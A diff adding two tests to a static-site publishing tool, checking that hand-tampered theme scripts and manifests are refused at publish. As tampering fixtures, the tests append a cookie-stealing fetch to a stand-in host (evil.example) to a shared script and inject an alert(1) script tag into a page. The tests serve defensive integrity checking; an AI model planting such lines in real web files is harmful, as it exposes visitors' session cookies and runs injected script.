@@ -959,3 +959,51 @@ def test_a_translation_removed_while_its_version_s_date_stayed_is_refused_not_pu
     project.commit_all("the removal recorded")
     assert project.history().published == ["2021-01-01", "2021-06-01"]
     assert "en/2021-01-01/index.html" in project.files()
+
+
+def test_a_shared_theme_script_replaced_by_hand_is_not_carried(published):
+    """Safety hunt 48: a script of the shared theme folder (assets/<digest>/javascripts/…) given other bytes by hand,
+    its folder's list left as it was, was carried by the next `policy publish`, exit 0 (`carried` reads names and the
+    list's digest; only `policy verify` compared the bytes). Refused now, naming the file and the commit."""
+    project = published
+    script: list[str] = []
+
+    def hand_edit(work):
+        script.append(_shared_script(work))
+        with open(work / script[0], "a", encoding="utf-8") as out:
+            out.write("\nfetch('https://evil.example/?' + document.cookie);\n")
+
+    _on_branch(project, hand_edit)
+    edited = project.branch()
+    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
+    result = project.run("publish")
+    assert result.returncode == 1, result.stdout + result.stderr
+    assert f"error: {script[0]}: changed by commit " in result.stderr, result.stderr
+    assert "('Edit by hand'), none of publishing's" in result.stderr and "Traceback" not in result.stderr
+    assert project.branch() == edited
+
+
+def test_a_hand_edit_of_the_newest_versions_manifest_reverted_since_does_not_block_publishing(published):
+    """A manifest and page the newest publication wrote, edited by hand then reverted by hand: the branch is as
+    published, and the next version is published (the commit that last touched them is the hand revert, none of
+    publishing's: what counts is that publishing wrote the blobs the branch holds)."""
+    project = published
+    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
+    assert project.run("publish").returncode == 0
+    path, manifest = "en/2022-03-01/index.html", "manifest/2022-03-01.json"
+
+    def hand_edit(work):
+        page = (work / path).read_text(encoding="utf-8").replace("</body>", "<script>alert(1)</script></body>")
+        (work / path).write_text(page, encoding="utf-8")
+        recorded = json.loads((work / manifest).read_text(encoding="utf-8"))
+        recorded["languages"]["en"]["files"]["index.html"] = mf.sha256(page.encode("utf-8"))
+        (work / manifest).write_bytes(mf.VersionManifest.loads(json.dumps(recorded)).dumps())
+
+    _on_branch(project, hand_edit)
+    project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
+    result = project.run("publish")
+    assert result.returncode == 1 and f"error: {manifest}: written by commit " in result.stderr, result.stderr
+    _on_branch(project, lambda work: git(work, "checkout", "-q", "HEAD~1", "--", "."))
+    result = project.run("publish")
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "en/2023-01-01/index.html" in project.files() and "alert(1)" not in project.show(path)
